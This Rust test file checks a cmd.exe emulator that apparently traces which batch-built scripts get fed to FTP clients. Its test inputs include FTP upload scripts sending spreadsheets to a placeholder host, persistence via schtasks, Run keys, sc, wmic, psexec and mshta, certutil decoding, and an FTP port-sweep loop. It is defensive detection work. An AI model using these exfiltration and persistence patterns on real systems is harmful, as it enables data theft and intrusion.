//! What cmd.exe does, as tables: a text, and the file that it leaves.

use super::{Interpreter, run_shell};
use crate::base::limits::Limits;
use crate::script::launch::Platform;
use crate::script::reading::Feed;
use crate::script::writer::emulation::{Emulation, Neighbours};
use crate::script::writer::files::VirtualFile;
use crate::script::writer::outcome::{Origin, Outcome};

/// Files beside the batch file.
struct Beside(&'static [(&'static str, &'static str)]);

impl Neighbours for Beside {
    fn text(&self, path: &str, _: Option<&str>) -> Option<String> {
        let (_, text) = self.0.iter().find(|(name, _)| name.eq_ignore_ascii_case(path))?;
        Some((*text).to_owned())
    }
}

fn emulate(text: &str, beside: &'static [(&'static str, &'static str)], in_file: bool) -> Outcome {
    let limits = Limits::default();
    let beside = Beside(beside);
    let origin = Origin { directory: Some("C:\\w"), name: "a.bat" };
    let mut emulation = Emulation::new(origin, Platform::Windows, &beside, &limits);
    let interpreter = Interpreter::new(&mut emulation, (1u32..).zip(text.lines()).collect());
    if in_file {
        interpreter.run_file();
    } else {
        interpreter.run_command_lines();
    }
    emulation.finish()
}

fn ran(text: &str) -> Outcome {
    emulate(text, &[], true)
}

/// What a file holds in the end, its line ends shown as `|`; nothing if it was never written.
fn content(outcome: &Outcome, path: &str) -> Option<String> {
    let by_path = |file: &&VirtualFile| file.path.eq_ignore_ascii_case(path);
    let file = outcome.fed.iter().rev().find(by_path).or_else(|| outcome.left.iter().rev().find(by_path))?;
    Some(file.content().replace("\r\n", "|"))
}

/// What the scripts hold that clients are given, in order.
fn fed(outcome: &Outcome) -> Vec<String> {
    outcome
        .launches
        .iter()
        .filter_map(|(_, feed)| match feed {
            Feed::Written(index) => Some(outcome.fed[*index].content().replace("\r\n", "|")),
            _ => None,
        })
        .collect()
}

fn leaves(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter_map(|(text, expected)| {
            let have = content(&ran(text), "f");
            (have.as_deref() != Some(*expected)).then(|| format!("{text}\n  wants {expected:?}, has {have:?}"))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn echo_in_all_its_forms() {
    leaves(&[
        ("echo x>f", "x|"),
        ("@echo x>f", "x|"),
        ("@@echo x>f", "x|"),
        ("ECHO x>f", "x|"),
        ("echo  x >f", " x |"),
        ("echo\tx>f", "x|"),
        ("echo.>f", "|"),
        ("echo.x>f", "x|"),
        ("echo(>f", "|"),
        ("echo(x>f", "x|"),
        ("echo:>f", "|"),
        ("echo:x>f", "x|"),
        ("echo/>f", "|"),
        ("echo/x>f", "x|"),
        ("echo\\x>f", "x|"),
        ("echo+x>f", "x|"),
        ("echo[x>f", "x|"),
        ("echo,x>f", "x|"),
        ("echo;x>f", "x|"),
        ("echo=x>f", "x|"),
        ("echo>f", "ECHO is on.|"),
        ("@echo off\necho>f", "ECHO is off.|"),
        ("echo off>f\necho x>>f", "x|"),
        ("echo off.>f", "off.|"),
        ("echo \"x\">f", "\"x\"|"),
        ("echo x & echo y>f", "y|"),
        ("echo @x>f", "@x|"),
        ("echo x;y,z=a>f", "x;y,z=a|"),
        ("echo x=1>f", "x=|"),
        ("echo %%x%%>f", "%x%|"),
        ("echo !dir>f", "!dir|"),
    ]);
}

#[test]
fn redirections_and_handles() {
    leaves(&[
        ("echo open h 21>f", "open h 21|"),
        ("echo user bob 1>f", "user bob |"),
        ("echo a>f\necho user bob 2>>f", "a|"),
        ("echo a>f\necho b>>f", "a|b|"),
        ("echo a >f\necho b >> f", "a |b |"),
        (">f echo a\n>>f echo b", "a|b|"),
        ("1>f echo a", "a|"),
        ("echo a>f b", "a b|"),
        ("> f echo a", "a|"),
        ("echo a>x>f", "a|"),
        ("echo a>f 2>nul", "a |"),
        ("echo a>f 2>&1", "a |"),
        ("echo a 2>x 1>f", "a  |"),
        ("echo a>f\necho b>&2", "a|"),
        ("echo a>f\necho b>nul>>f", "a|b|"),
        ("echo a>f\necho b>>f>nul", "a|"),
        ("echo a 3>f 1>&3", "a  |"),
        ("(echo a 1>&2) 2>f 1>x\necho b>f", "b|"),
        ("(echo a&echo b)>f", "a|b|"),
        ("(\necho a\necho b\n)>f", "a|b|"),
        ("(\n  echo a\n  (echo b\n  echo c)\n) > f", "a|b|c|"),
        (">f (\necho a\n)", "a|"),
        ("(echo a)>f & echo b>>f", "a|b|"),
        ("(echo a) > f 2>nul", "a|"),
        ("(echo a&echo b>x)>f", "a|"),
        ("(echo a ^) b)>f", "a ) b|"),
        ("(echo \"a) b\")>f", "\"a) b\"|"),
        ("if 1==1 (\necho a\n) else (\necho b\n)\n(echo c)>f", "c|"),
        ("if 1==1 (echo a>f) else (echo b>f)", "a|"),
        ("for %%i in (1 2) do (echo %%i)>>f", "1|2|"),
    ]);
    let stream = ran("echo open h.x> f.txt:s\nftp -s:f.txt:s");
    assert_eq!(fed(&stream), ["open h.x|"]);
}

#[test]
fn carets_quotes_and_delimiters() {
    leaves(&[
        ("e^c^h^o x>f", "x|"),
        ("echo a^&b>f", "a&b|"),
        ("echo a^>b>f", "a>b|"),
        ("echo a^^b>f", "a^b|"),
        ("echo \"a^b\">f", "\"a^b\"|"),
        ("echo \"a&b>c\">f", "\"a&b>c\"|"),
        ("echo ^\"a>f", "\"a|"),
        ("echo a^\nb>f", "ab|"),
        ("echo a ^\n  b>f", "a   b|"),
        ("(echo a ^\nb\n)>f", "a b|"),
        (";,=echo x>f", "x|"),
        ("echo x>,f", "x|"),
        ("echo x>\"f\"", "x|"),
        ("echo a|| echo b>f\necho c>>f", "c|"),
        ("echo a>f&&echo b>>f", "a|b|"),
        ("echo a>f &echo b>>f", "a |b|"),
        ("c^md /c \"echo x>f\"", "x|"),
    ]);
    for line in [
        "f\"t\"p -s:x",
        "\"ftp\" -s:x",
        "f^t^p -s:x",
        "ftp,-s:x",
        "ftp;-s:x",
        "C:\\Windows\\System32\\ftp.exe -s:x",
        "@ftp -s:x",
        "fT^p.EXE /s:x",
    ] {
        let outcome = ran(line);
        assert_eq!(outcome.launches.len(), 1, "{line}");
        assert_eq!(outcome.launches[0].0.script_path.as_deref(), Some("x"), "{line}");
    }
}

#[test]
fn variables() {
    leaves(&[
        ("set H=h.x\necho open %H% %h%>f", "open h.x h.x|"),
        ("set \"H=h.x\" rest\necho %H%>f", "h.x|"),
        ("set H=h.x \necho [%H%]>f", "[h.x ]|"),
        ("set H = h.x\necho [%H %]>f", "[ h.x]|"),
        ("set a=1&echo %a%>f", "%a%|"),
        ("set a=1&call echo %%a%%>f", "1|"),
        ("set a=abcdef\necho %a:~0,1%%a:~-2%%a:~1,-3%%a:c=X%%a:*d=%>f", "aefbcabXdefef|"),
        ("set a=x\nset a=\necho [%a%]>f", "[]|"),
        ("set n=b\nset a_b=1\ncall set v=%%a_%n%%%\necho [%v%]>f", "[1]|"),
        ("set x=ec\nset y=ho\n%x%%y% z>f", "z|"),
        ("set random=%RANDOM%\necho put log%random%.txt>f", "put log%random%.txt|"),
        ("echo %UserName% %TEMP%\\a %date:~-4%>f", "%UserName% %TEMP%\\a %date:~-4%|"),
        ("set a=%TEMP%\\x\necho %a% %a:~0,2%>f", "%TEMP%\\x %a:~0,2%|"),
        ("echo %comspec:~-7,3%%os:~0,1%>f", "cmdW|"),
        ("cd /d C:\\x\necho %cd%>f", "C:\\x|"),
        ("echo %~n0 %~x0 %~dp0 %~nx0>f", "a .bat C:\\w\\ a.bat|"),
        ("setlocal\nset a=1\nendlocal\necho %a%>f", "%a%|"),
        ("set a=0\nsetlocal\nset a=1\nendlocal & set b=%a%\necho %a%%b%>f", "01|"),
        ("e%zz%c%qq%ho x>f", "x|"),
        ("set a=x\ncmd /c \"set a=y\"\necho %a%>f", "x|"),
        ("set a=x\necho y|set /p a=\necho %a%>f", "x|"),
    ]);
}

#[test]
fn delayed_variables() {
    leaves(&[
        ("setlocal enabledelayedexpansion\nset a=1&echo !a!>f", "1|"),
        ("setlocal EnableDelayedExpansion\nset a=h.x\necho open !a:~0,1! !a:x=y!>f", "open h h.y|"),
        ("echo !a!>f", "!a!|"),
        ("setlocal enabledelayedexpansion\necho pass^^!word>f", "pass!word|"),
        ("setlocal enabledelayedexpansion\necho pass!>f", "pass|"),
        ("setlocal enabledelayedexpansion\nset n=\nfor %%i in (a b c) do set n=!n!%%i\necho %n%>f", "abc|"),
        ("cmd /v:on /c \"set a=x&echo !a!>f\"", "x|"),
        ("cmd /V /C \"set a=ftp&&echo !a!>f\"", "ftp|"),
        ("setlocal enabledelayedexpansion\nset t=f\necho x>!t!", "x|"),
        (
            "setlocal enabledelayedexpansion\nset i=0\nfor %%a in (x y) do (set /a i+=1\nset v!i!=%%a)\necho !v1!!v2!>f",
            "xy|",
        ),
        ("setlocal enabledelayedexpansion\nsetlocal disabledelayedexpansion\necho a!b!c>f", "a!b!c|"),
    ]);
}

#[test]
fn numbers_and_answers() {
    leaves(&[
        ("set /a p=2000+121\necho open h %p%>f", "open h 2121|"),
        ("set /a \"a=(1+2)*3\",b=a/2\necho %a% %b%.>f", "9 4.|"),
        ("set /a n=7 %% 4\necho [%n%]>f", "[3]|"),
        ("set /a n=%random% %% 10\necho %n%>f", "%n%|"),
        ("set /a n+=1\nset /a n+=1\necho [%n%]>f", "[2]|"),
        ("set n=2\necho %n%>f\necho x>>f", "x|"),
        ("set /p n=Name: \necho %n%>f", "%n%|"),
        ("echo h.x>g\nset /p n=<g\necho %n%>f", "h.x|"),
        ("<nul set /p=bye>f", "bye"),
        ("<nul set /p \"=a b\">f\necho.>>f", "a b|"),
        ("echo|set /p=bye>f", "bye"),
        ("set /p x=\"open \"<nul>f\necho h.x>>f", "open h.x|"),
    ]);
}

#[test]
fn arguments_and_calls() {
    leaves(&[
        ("call :w h.x \"a b\"\ngoto :eof\n:w\necho %1 %~2 [%3] %*>f", "h.x a b [] h.x \"a b\"|"),
        ("call :gen>f\nexit /b\n:gen\necho a\ncall :more\necho c\ngoto :eof\n:more\necho b\nexit /b", "a|b|c|"),
        ("call :w C:\\d\\x.txt\nexit /b\n:w\necho %~nx1 %~n1 %~x1 %~dp1>f", "x.txt x .txt C:\\d\\|"),
        ("call :w a b c\nexit /b\n:w\nshift\necho %1>f", "b|"),
        ("echo %1 %*>f", "%1 %*|"),
        ("goto b\n:a\necho a>>f\ngoto end\n:b\necho b>f\ngoto a\n:end", "b|a|"),
        ("set i=0\n:l\nset /a i+=1\necho [%i%]>>f\nif %i% lss 3 goto l", "[1]|[2]|[3]|"),
        ("set a=1\ncall :s\necho [%a%]>f\nexit /b\n:s\nsetlocal\nset a=2\nexit /b", "[1]|"),
        ("echo echo x^>f>b.bat\ncall b", "x|"),
        ("echo echo %%1^>f>b.cmd\ncall b.cmd h.x", "h.x|"),
        ("echo echo x^>f>b.bat\nb.bat", "x|"),
        ("echo echo x^>f>b.bat\nstart /min b.bat", "x|"),
        ("echo echo x^>f>b.txt\ncmd<b.txt", "x|"),
        ("echo echo x^>f|cmd", "x|"),
        (":w\necho x>f\nexit /b\ncall :w", "x|"),
    ]);
}

#[test]
fn loops() {
    leaves(&[
        ("for %%a in (open bye) do echo %%a>>f", "open|bye|"),
        ("for %%a in (a,b;c) do @echo %%a>>f", "a|b|c|"),
        ("for %%a in (\"a b\" c) do echo %%~a>>f", "a b|c|"),
        ("for %%a in (\na\nb\n) do (\necho %%a>>f\n)", "a|b|"),
        ("for %%f in (C:\\d\\a.txt) do echo put %%f %%~nxf %%~nf>>f", "put C:\\d\\a.txt a.txt a|"),
        ("for %%f in (*.xls) do echo put %%f %%~nf>>f", "put %f %~nf|"),
        ("for /l %%i in (1,1,3) do echo %%i>>f", "1|2|3|"),
        ("for /L %%i in (3,-1,1) do echo %%i>>f", "3|2|1|"),
        ("for %%a in (\"open h.x\" *.dll *.exe \"get a?\" bye) do echo %%~a>>f", "open h.x|%~a|bye|"),
        ("for %i in (a b) do echo %i>>f", "a|b|"),
        ("for %%a in (1 2) do for %%b in (x y) do echo %%a%%b>>f", "1x|1y|2x|2y|"),
        ("for /f %%a in (\"h.x 21\") do echo %%a>f", "h.x|"),
        ("for /f \"tokens=1,2 delims=:\" %%a in (\"bob:pw\") do (echo %%a&echo %%b)>f", "bob|pw|"),
        ("for /f \"tokens=1*\" %%a in (\"a b c\") do echo %%b>f", "b c|"),
        ("for /f \"usebackq tokens=2 delims==\" %%a in ('h=x') do echo %%a>f", "x|"),
        ("echo host=h.x>c\nfor /f \"tokens=2 delims==\" %%a in (c) do echo %%a>f", "h.x|"),
        ("(echo # no&echo yes)>c\nfor /f \"eol=#\" %%a in (c) do echo %%a>f", "yes|"),
        ("(echo 1&echo 2&echo 3)>c\nfor /f \"skip=1 usebackq\" %%a in (\"c\") do echo %%a>>f", "2|3|"),
        ("echo a>c\nfor /f %%a in ('type c') do echo %%a>f", "a|"),
        ("(echo a&echo b)>c\nfor /f %%a in ('type c ^| find \"b\"') do echo %%a>f", "b|"),
        ("for /f \"delims=\" %%a in ('echo open h.x') do echo %%a>f", "open h.x|"),
        ("for /f \"tokens=2 delims==.\" %%a in ('set os') do echo %%a>f", "Windows_NT|"),
        ("for /f %%a in ('hostname') do echo %%a>f", "%a|"),
        ("for /f %%a in (gone.txt) do echo %%a>f", "%a|"),
        ("for /r C:\\ %%a in (*.doc) do echo put %%a>f", "put %a|"),
        ("for %%a in (h.x) do set H=%%a\necho %H%>f", "h.x|"),
        ("set L=a b\nfor %%x in (%L%) do echo %%x>>f", "a|b|"),
        ("for %%x in (a b) do call :w %%x\nexit /b\n:w\necho %1>>f", "a|b|"),
    ]);
    let scan = ran("for /L %i in (1,1,1024) do echo open 192.0.2.1 %i>f& ftp -s:f");
    assert_eq!(fed(&scan), ["open 192.0.2.1 %i|"]);
    assert_eq!(scan.diagnostics[0].code, "loop-capped");
    let template =
        ran("for %%f in (C:\\d\\*.xls) do (echo open h.x>%%~nf.ftp&echo send \"%%f\">>%%~nf.ftp&ftp -s:%%~nf.ftp)");
    assert_eq!(fed(&template), ["open h.x|send \"%f\"|"]);
    assert_eq!(template.launches[0].0.script_path.as_deref(), Some("%~nf.ftp"));
}

#[test]
fn conditions_that_the_text_decides() {
    leaves(&[
        ("if a==a (echo y>f) else echo n>f", "y|"),
        ("if a==A (echo y>f) else echo n>f", "n|"),
        ("if /i a==A (echo y>f) else echo n>f", "y|"),
        ("if not a==b echo y>f", "y|"),
        ("set n=5\nif %n% geq 5 echo y>f", "y|"),
        ("if 10 gtr 9 echo y>f", "y|"),
        ("if \"%OS%\"==\"Windows_NT\" (echo y>f) else (echo n>f)", "y|"),
        ("set a=1\nif defined a (echo y>f) else (echo n>f)", "y|"),
        ("set a=\nif defined a (echo y>f) else (echo n>f)", "n|"),
        ("echo x>g\nif exist g (echo y>f) else (echo n>f)", "y|"),
        ("echo x>g\ndel g\nif exist g (echo y>f) else (echo n>f)", "n|"),
        ("echo a>f\nif exist f del f\necho b>>f", "b|"),
        ("call :s\nif errorlevel 3 echo y>f\nexit\n:s\nexit /b 3", "y|"),
        ("if 1==1 (if 2==3 (echo a>f) else echo b>f) else echo c>f", "b|"),
        ("if 1==2 echo a>f\nif 1==1 echo b>f", "b|"),
    ]);
}

#[test]
fn conditions_that_the_host_decides() {
    let cases: [(&str, &[&str]); 12] = [
        ("if exist q (echo a>f) else echo b>f\nftp -s:f", &["a|", "b|"]),
        ("echo a>f\nif exist q echo b>f\nftp -s:f", &["b|", "a|"]),
        ("echo a>f\nif exist q echo b>>f\necho c>>f\nftp -s:f", &["a|b|c|"]),
        ("echo a>f\nif exist q (echo b>>f) else (echo c>>f)\necho d>>f\nftp -s:f", &["a|b|d|", "a|c|d|"]),
        ("if exist f del f\necho a>>f\nftp -s:f", &["a|"]),
        ("if \"%1\"==\"\" goto usage\necho a>f\nftp -s:f\ngoto end\n:usage\necho no\n:end", &["a|"]),
        ("if errorlevel 1 exit\necho a>f\nftp -s:f", &["a|"]),
        ("set H=a\nif not \"%1\"==\"\" set H=%1\necho %H%>f\nftp -s:f", &["a|"]),
        ("set H=x\nif exist q (set H=y&goto n)\necho %H%>f\nftp -s:f\nexit\n:n\necho n%H%>g\nftp -s:g", &["x|", "ny|"]),
        ("ping h || goto end\necho a>f\nftp -s:f\n:end", &["a|"]),
        ("ping h && echo a>f\nftp -s:f", &["a|"]),
        ("if exist q (goto a) else (goto b)\n:a\necho a>f\nftp -s:f\nexit\n:b\necho b>f\nftp -s:f", &["a|", "b|"]),
    ];
    for (text, scripts) in cases {
        assert_eq!(fed(&ran(text)), scripts, "{text}");
    }
    let menu = ":menu\nset /p c=?\nif %c%==1 goto up\nif %c%==2 goto down\ngoto menu\n:up\necho a>f\ngoto go\n:down\necho b>f\ngoto go\n:go\necho c>>f\nftp -s:f\ngoto menu";
    assert_eq!(fed(&ran(menu)), ["a|c|", "b|c|"]);
    let values = ran("if exist q (set H=a) else set H=b\necho %H%>f\nftp -s:f");
    assert_eq!(fed(&values), ["b|"]);
    assert!(values.diagnostics.iter().any(|d| d.code == "branch-value" && d.message.ends_with("H may also be a")));
    let both = ran("if exist q (echo a>f) else echo b>f\nftp -s:f");
    assert!(both.launches[0].0.note.is_none() && both.launches[1].0.note.is_some());
}

#[test]
fn commands_on_files() {
    leaves(&[
        ("echo a>x\necho b>y\ncopy x+y f", "a|b|"),
        ("echo a>x\necho b>y\ncopy /y /b x + y f>nul", "a|b|"),
        ("echo a>f\necho b>y\ncopy f+y", "a|b|"),
        ("echo a>x\ncopy x f", "a|"),
        ("echo a>x\ntype x>f", "a|"),
        ("echo a>f\necho b>x\ntype x>>f", "a|b|"),
        ("echo a>x\nmove x f", "a|"),
        ("echo a>x\nren x f", "a|"),
        ("type nul>f\necho a>>f", "a|"),
        ("echo a>x\nmore x>f", "a|"),
        ("echo a>x\nmore<x>f", "a|"),
        ("(echo a&echo b)>x\nfind \"b\"<x>f", "b|"),
        ("(echo a&echo b)>x\ntype x|findstr /v a>f", "b|"),
        ("(echo ::a&echo b)>x\nfindstr /b :: x>f", "::a|"),
        ("(echo b&echo a)>x\nsort x>f", "a|b|"),
        ("findstr /b \"::ftp\" \"%~f0\">f\nexit /b\n::ftp open h.x", "::ftp open h.x|"),
        ("more +2 %0>f\nexit /b\nopen h.x", "open h.x|"),
        ("copy con f\nopen h.x\nbye\n^Z\necho no", "open h.x|bye|"),
        ("echo b3BlbiBoLng=>x\ncertutil -decode x f", "open h.x"),
        ("echo a>x\nattrib +h x\ntype x>f", "a|"),
        ("pushd C:\\t\necho a>f\npopd\necho b>g", "a|"),
    ]);
    let renamed = ran("copy %windir%\\system32\\ftp.exe C:\\w\\x.exe\nx.exe -s:f");
    assert_eq!(renamed.launches.len(), 1);
    let doskey = ran("doskey g=ftp -n -s:$*\ng f");
    assert_eq!(doskey.launches[0].0.script_path.as_deref(), Some("f"));
}

#[test]
fn files_beside() {
    let beside: &[(&str, &str)] = &[
        ("part.bat", "echo open h.x>>f\r\necho bob>>f\r\n"),
        ("whole.bat", "echo open h.x>g\r\nftp -s:g\r\n"),
        ("c.txt", "host=h.x\r\n"),
        ("tail.txt", "get a\r\nbye\r\n"),
    ];
    let parts = emulate("call part.bat\necho get a>>f\nftp -s:f", beside, true);
    assert_eq!(fed(&parts), ["open h.x|bob|get a|"]);
    let piece = &parts.fed[0].pieces[1];
    assert_eq!((piece.line, piece.file.as_deref()), (2, Some("part.bat")));
    assert_eq!(parts.fed[0].pieces[2].file, None);
    let whole = emulate("call whole.bat\necho x>y", beside, true);
    assert_eq!((whole.launches.len(), whole.fed.len()), (0, 0));
    let values = emulate("for /f \"tokens=2 delims==\" %%a in (c.txt) do echo open %%a>f\nftp -s:f", beside, true);
    assert_eq!(fed(&values), ["open h.x|"]);
    let joined = emulate("echo open h.x>x\ncopy x+tail.txt f\nftp -s:f", beside, true);
    assert_eq!(fed(&joined), ["open h.x|get a|bye|"]);
}

#[test]
fn clients_and_what_they_are_fed() {
    let cases: [(&str, &[&str]); 14] = [
        ("echo bye>a\nftp -n<a", &["bye|"]),
        ("echo bye>a\nftp -n < a h.x", &["bye|"]),
        ("(echo open h.x&echo bye)|ftp -n", &["open h.x|bye|"]),
        ("echo bye>a\ntype a|ftp -n h.x", &["bye|"]),
        ("echo bye>a\nmore < a | ftp -n h.x", &["bye|"]),
        ("echo a>x & type x | ftp -n h.x", &["a |"]),
        ("set x=ftp\necho bye>a\n%x% -s:a", &["bye|"]),
        ("echo bye>a\nstart \"\" /min /wait ftp -s:a", &["bye|"]),
        ("echo bye>C:\\d\\a\nstart /d C:\\d ftp -s:a", &["bye|"]),
        ("echo bye>a\nstart /w \"\" \"C:\\b c\\ftp.exe\" -s:a", &["bye|"]),
        ("echo bye>a\nstart /min \"x y\" /wait ftp -s:a", &["bye|"]),
        ("echo bye>a\nstart \"x\" cmd /c \"ftp -s:a\"", &["bye|"]),
        ("cmd /c echo open h.x>a&cmd /c echo bye>>a&cmd /c ftp -s:a", &["open h.x|bye|"]),
        ("cmd /c \"echo open h.x^>a^&ftp -s:a\"", &[]),
    ];
    for (text, scripts) in cases {
        assert_eq!(fed(&ran(text)), scripts, "{text}");
    }
    for own in ["%~f0", "\"%~f0\"", "%0", "%~dpnx0", "a.bat", "%~nx0"] {
        let outcome = ran(&format!("@ftp -i -s:{own}&GOTO:EOF\nopen h.x\nbob\nget a\nbye"));
        assert_eq!(outcome.launches[0].1, Feed::Itself, "{own}");
        assert!(outcome.runs.is_empty(), "{own}");
    }
}

#[test]
fn command_lines_within_others() {
    let inner = "cmd /c echo open h.x>a&echo bye>>a&ftp -s:a";
    let bare = "cmd /c echo open h.x^>a^&echo bye^>^>a^&ftp -s:a";
    let cases = [
        format!("schtasks /create /tn U /sc daily /tr \"{inner}\""),
        format!("at 12:00 {bare}"),
        format!("at 12:00 \"{inner}\""),
        format!("forfiles /p c:\\windows /m notepad.exe /c \"{inner}\""),
        format!("wmic process call create \"{inner}\""),
        format!("psexec \\\\h.x -s {bare}"),
        format!("runas /user:x \"{inner}\""),
        format!("sc create u binPath= \"{inner}\" start= auto"),
        format!("reg add HKCU\\x\\Run /v u /d \"{inner}\" /f"),
        format!("conhost {bare}"),
        format!("start /b {bare}"),
        format!("start cmd /c \"{}\"", &inner[7..]),
        format!("cmd /c cmd /c \"{}\"", &inner[7..]),
        format!("mshta vbscript:CreateObject(\"WScript.Shell\").Run(\"{inner}\",0)(window.close)"),
    ];
    for text in cases {
        assert_eq!(fed(&ran(&text)), ["open h.x|bye|"], "{text}");
    }
}

#[test]
fn command_lines_of_logs() {
    let log = emulate("echo open h.x>f\necho bye>>f\nftp -s:f", &[], false);
    assert_eq!(fed(&log), ["open h.x|bye|"]);
    let typed = emulate("copy con f\nopen h.x\nbye\n\u{1a}\nftp -s:f", &[], false);
    assert_eq!(fed(&typed), ["open h.x|bye|"]);
}

#[test]
fn a_shell_without_a_text() {
    let limits = Limits::default();
    let beside = Beside(&[]);
    let mut emulation = Emulation::new(Origin::default(), Platform::Windows, &beside, &limits);
    assert!(run_shell(&mut emulation, "cmd /v:on /c \"set a=h.x&&echo open !a!>f&&ftp -s:f\""));
    assert!(!run_shell(&mut emulation, "cmd"));
    assert_eq!(fed(&emulation.finish()), ["open h.x|"]);
}

#[test]
fn what_never_ends_ends() {
    let many_ifs = "if exist q (echo a>>f) else (echo b>>f)\n".repeat(3000);
    let texts = [
        ":a\necho x>>f\ngoto a\n".to_owned(),
        ":a\nif exist q goto a\ngoto a\n".to_owned(),
        ":a\nset /a i+=1\nif %i% gtr 0 goto a\n".to_owned(),
        "call :a\n:a\ncall :a\ncall :a\n".to_owned(),
        format!("set a=x\n{}", "set a=%a%%a%\n".repeat(200)),
        format!("echo x>f\n{}", "type f>>f\n".repeat(200)),
        format!("echo x>f\n{}", "copy f+f f\n".repeat(200)),
        "for /l %%a in (1,1,1000) do for /l %%b in (1,1,1000) do echo %%a>>f".to_owned(),
        "for /l %%i in (1,0,2) do echo x>>f".to_owned(),
        "echo a.bat>a.bat\ncall a.bat\na.bat\n".to_owned(),
        "echo call b.bat>b.bat\ncall b.bat\n".to_owned(),
        "cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c ftp -s:x".to_owned(),
        format!("set a={}\necho {}>f", "x".repeat(8000), "%a%".repeat(100_000)),
        many_ifs,
        "call ".repeat(50_000),
        "start ".repeat(50_000),
        "schtasks /tr ".repeat(20_000),
        "ftp ".repeat(100_000),
        "%a".repeat(100_000),
        "!".repeat(100_000),
        "for %%a in (x) do ".repeat(1000),
        "setlocal enabledelayedexpansion\nset a=!a!!a!x\n".repeat(500),
        format!("{}{}", "set v%random%=1\n".repeat(10), "setlocal\n".repeat(2000)),
    ];
    for text in texts {
        // Either ends.
        let _ = ran(&text);
        let _ = emulate(&text, &[], false);
    }
}

/// Code behind an end of the file would never run, unless a jump leads there.
#[test]
fn what_the_end_of_the_file_cuts_off_is_dead() {
    let cases = [
        ("exit /b\nftp -s:n.txt", false),
        ("exit\nftp -s:n.txt", false),
        ("goto :eof\nftp -s:n.txt", false),
        ("goto done\nftp -s:n.txt\n:done\necho x", false),
        ("call :other\nexit /b\n:unused\nftp -s:n.txt\n:other\nexit /b", false),
        (":a\necho x\ngoto a\nftp -s:n.txt", false),
        ("ftp -s:n.txt\nexit /b", true),
        ("if exist q exit /b\nftp -s:n.txt", true),
        ("del q || exit /b\nftp -s:n.txt", true),
        ("call :sub\nexit /b\n:sub\nftp -s:n.txt\nexit /b", true),
        ("goto run\nexit /b\n:run\nftp -s:n.txt", true),
        ("if \"%1\"==\"x\" goto run\nexit /b\n:run\nftp -s:n.txt", true),
        ("goto %1\n:run\nftp -s:n.txt", true),
        ("call :%~1\nexit /b\n:run\nftp -s:n.txt\nexit /b", true),
        ("set /p c=\ngoto %c%\nexit /b\n:run\nftp -s:n.txt", true),
        ("echo x>f\ndel f\nftp -s:get.txt\nif not exist f exit /b\nftp -s:n.txt", true),
    ];
    for (text, runs) in cases {
        let outcome = ran(text);
        let launch = outcome.launches.iter().rev().find(|(launch, _)| launch.script_path.as_deref() == Some("n.txt"));
        assert_eq!(launch.map(|(launch, _)| launch.would_run), Some(runs), "{text}");
    }
    let outcome = ran("exit /b\necho open h.x>a\necho open g.x>b\nftp -s:a\nstart p.exe");
    assert!(outcome.fed.iter().chain(&outcome.left).all(|file| file.inactive) && outcome.runs.is_empty());
    assert_eq!(content(&outcome, "b").as_deref(), Some("open g.x|"));
}
